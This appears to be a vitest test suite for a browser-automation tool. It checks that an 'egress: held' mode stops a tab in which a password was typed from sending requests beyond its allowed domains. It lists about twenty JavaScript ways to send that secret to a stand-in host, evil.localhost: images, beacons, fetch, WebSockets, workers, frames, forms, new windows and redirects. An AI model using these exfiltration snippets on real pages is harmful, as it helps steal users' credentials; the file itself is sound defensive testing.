/** With `egress: held`, a tab in which a secret was typed asks for nothing outside of the allowed domains. */
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { type Site, servePages } from '../../support/pages/serve-pages';
import { share } from '../../support/share';
import { soakTest } from '../../support/soak-test';
import { shared } from '../../support/tabrelay/shared-tabrelay';
import { until } from '../../support/until';

const tabrelay = shared();
let leaked: string[] = [];
let shop: Site;
let evil: Site;
const opened: string[] = [];

const portOf = (site: Site) => new URL(site.url('/')).port;
const atShop = (path: string) => `http://shop.localhost:${portOf(shop)}${path}`;
const atEvil = (path: string) => `http://evil.localhost:${portOf(evil)}${path}`;
const secrets = { password: 'correct-horse' };

/** By the type that the browser gives the request: a script in which `to` is the address with the secret. */
const ways: Record<string, string> = {
  image: 'new Image().src = to',
  xmlhttprequest: "fetch(to, { mode: 'no-cors' }).catch(() => 0)",
  ping: "navigator.sendBeacon(to, 'x')",
  stylesheet:
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to }))",
  script: "document.head.append(Object.assign(document.createElement('script'), { src: to }))",
  sub_frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: to }))",
  media: "document.body.append(Object.assign(document.createElement('video'), { src: to }))",
  font: "new FontFace('f', 'url(' + to + ')').load().catch(() => 0)",
  websocket: "new WebSocket(to.replace('http', 'ws'))",
  object: "document.body.append(Object.assign(document.createElement('object'), { data: to }))",
};

/** The same from another document or with other means. */
const otherWays: Record<string, string> = {
  'a blank frame':
    "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.Image().src = to",
  'a form into a frame':
    "document.body.insertAdjacentHTML('beforeend', '<iframe name=i></iframe><form target=i action=' + to + '><input name=a></form>'); document.forms[0].submit()",
  'an event source': 'new EventSource(to)',
  'a worker':
    'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(to) + ", { mode: \\"no-cors\\" })"])))',
  'a style': "document.body.style.backgroundImage = 'url(' + to + ')'",
  'a window that it opens': "const w = window.open('about:blank', 'w'); new w.Image().src = to",
  'a page of its own in a new window': "window.open('/sends?to=' + encodeURIComponent(to), 'v')",
  'a page of its own in a new window, later': "window.open('/sends?later&to=' + encodeURIComponent(to), 'v')",
  'a second page of its own in that window':
    "const w = window.open('/page', 'v'); const sent = setInterval(() => { try { if (!w.document.querySelector('#run')) return } catch { return } clearInterval(sent); w.location = '/sends?later&to=' + encodeURIComponent(to) }, 20)",
  'a new window of a page that leaves':
    "window.open('/sends?later&slow&to=' + encodeURIComponent(to), 'v'); location = '/page?next'",
  'a page of its own in a window that was blank':
    "const w = window.open('about:blank', 'v'); w.location = '/sends?later&to=' + encodeURIComponent(to)",
  'a redirect of its own site': "new Image().src = '/away?to=' + encodeURIComponent(to)",
};

/** A page that sends at once, or later than a tab is freed after its document has come, and then says so. */
const sends = `<!doctype html><script>
  const asked = new URLSearchParams(location.search);
  const send = () => {
    const image = new Image();
    image.onerror = () => { document.title = 'sent'; };
    image.src = asked.get('to');
  };
  if (asked.has('later')) setTimeout(send, 400); else send();
</script><p>sends</p>`;

beforeAll(async () => {
  evil = await servePages({
    '/': (request, response) => {
      leaked.push(String(request.url));
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    },
  });
  shop = await servePages({
    '/page': `<!doctype html><title>page</title><label>Password <input id="password" type="password"></label>
      <label>Code <input id="code"></label><button id="run" onclick="new Function('to', code.value)('${atEvil('/?q=')}' + password.value)">run</button>`,
    '/sends': (request, response) => {
      const isSlow = request.url?.includes('slow');
      response.writeHead(200, { 'content-type': 'text/html' });
      setTimeout(() => response.end(sends), isSlow ? 300 : 0);
    },
    '/away': (request, response) => {
      const to = new URL(request.url ?? '', 'http://x').searchParams.get('to') ?? '';
      response.writeHead(302, { location: to }).end();
    },
  });
});
afterEach(async () => {
  for (const id of opened.splice(0)) await tabrelay.close(id);
  leaked = [];
});
afterAll(async () => {
  await shop.close();
  await evil.close();
});

async function open(options: Record<string, unknown> = { egress: 'held' }): Promise<string> {
  const allowedDomains = [`shop.localhost:${portOf(shop)}`];
  const id = await tabrelay.session({ url: atShop('/page'), allowedDomains, ...options });
  opened.push(id);
  return id;
}

async function typeSecret(id: string): Promise<void> {
  const body = { action: 'fill', selector: '#password', value: '{{password}}', secrets };
  expect((await tabrelay.call('POST', `/session/${id}`, { body })).status).toBe(200);
}

/** Has the page run a script, and returns the result of the step after it. */
async function run(id: string, script: string): Promise<Record<string, unknown>> {
  await tabrelay.act(id, 'fill', '#code', script);
  await tabrelay.act(id, 'click', '#run');
  return tabrelay.act(id, 'wait', '', 150);
}

test('until a secret is typed nothing is held, nor without the option', async () => {
  const id = await open();
  await run(id, 'new Image().src = to');
  await until('the image to be asked for', () => leaked.length === 1);
  const free = await open({});
  await typeSecret(free);
  await run(free, 'new Image().src = to');
  await until('the image to be asked for', () => leaked.length === 2);
});

/** Documents elsewhere are blocked in any bound session, and the server of this test takes no sockets. */
const alwaysHeld = ['sub_frame', 'object', 'websocket', 'a form into a frame'];

test('each of the ways below sends something where nothing is held', async () => {
  const id = await open({});
  await typeSecret(id);
  for (const [name, script] of share(Object.entries({ ...ways, ...otherWays }), 5)) {
    if (alwaysHeld.includes(name)) continue;
    leaked = [];
    await tabrelay.act(id, 'navigate', '', atShop('/page'));
    await tabrelay.act(id, 'fill', '#code', script);
    await tabrelay.act(id, 'click', '#run');
    await until(`${name} to send something`, () => leaked.length > 0);
    const { tabs } = (await tabrelay.step(id, 'tabs', '')) as { tabs: { tab: number }[] };
    await tabrelay.act(id, 'tab', '', tabs[0]?.tab);
  }
});

test('what a page asks for elsewhere is held and named, whatever it is', { timeout: 90_000 }, async () => {
  const id = await open();
  await typeSecret(id);
  const named: Held[] = [];
  for (const [type, script] of Object.entries(ways)) named.push(...(await runNamed(id, script, type)));
  expect(leaked).toEqual([]);
  const origin = `evil.localhost:${portOf(evil)}`;
  const expected = Object.keys(ways).map((type) =>
    expect.objectContaining({ type, origin: `${type === 'websocket' ? 'ws' : 'http'}://${origin}` }),
  );
  expect(named).toEqual(expect.arrayContaining(expected));
  // Its own site answers as before.
  expect(await tabrelay.read(id, 'count', '#run')).toBe('1');
});

interface Held {
  type: string;
  origin: string;
}

/** What the replies name as held from the click on, until one of the type is. */
async function runNamed(id: string, script: string, type: string): Promise<Held[]> {
  await tabrelay.act(id, 'fill', '#code', script);
  const named: Held[] = [];
  const note = ({ held = [] }: Record<string, unknown>) => named.push(...(held as Held[]));
  note(await tabrelay.act(id, 'click', '#run'));
  await until(`${type} to be named`, async () => {
    if (!named.some((one) => one.type === type)) note(await tabrelay.act(id, 'wait', '', 50));
    return named.some((one) => one.type === type);
  });
  return named;
}

for (const [name, script] of share(Object.entries(otherWays), 1)) {
  test(`nor does ${name} send anything`, async () => {
    const id = await open();
    await typeSecret(id);
    await run(id, script);
    if (script.includes('/sends')) {
      await until('the window to have tried', async () =>
        JSON.stringify(await tabrelay.act(id, 'tabs', '')).includes('"title":"sent"'),
      );
    }
    expect(leaked).toEqual([]);
  });
}

test('the next page is free, and the one with the secret is held again when the tab goes back', async () => {
  const id = await open();
  await typeSecret(id);
  await tabrelay.act(id, 'navigate', '', atShop('/page?next'));
  await until('the tab to be free', async () => {
    await run(id, 'new Image().src = to');
    return leaked.length > 0;
  });
  await tabrelay.act(id, 'back', '');
  leaked = [];
  await run(id, 'new Image().src = to');
  expect(leaked).toEqual([]);
});

test('it needs a list of where requests may go', async () => {
  for (const [path, body] of [
    ['/session', { egress: 'held' }],
    ['/browse', { egress: 'held', prompt: 'Click "Go"', url: atShop('/page') }],
  ] as const) {
    const answer = await tabrelay.call('POST', path, { body });
    expect([answer.status, answer.body.error]).toEqual([400, expect.stringContaining('"allowedDomains"')]);
  }
});

soakTest('a task is held alike', async () => {
  const body = {
    prompt: `Fill "{{password}}" into "Password". Fill "new Image().src = to" into "Code". Click "run".`,
    url: atShop('/page'),
    allowedDomains: [`shop.localhost:${portOf(shop)}`],
    egress: 'held',
    secrets,
  };
  const { status, body: answer } = await tabrelay.call('POST', '/browse', { body });
  expect([status, answer.result]).toEqual([
    200,
    expect.objectContaining({ actions: expect.arrayContaining([{ type: 'click', selector: '#run' }]) }),
  ]);
  expect(leaked).toEqual([]);
});
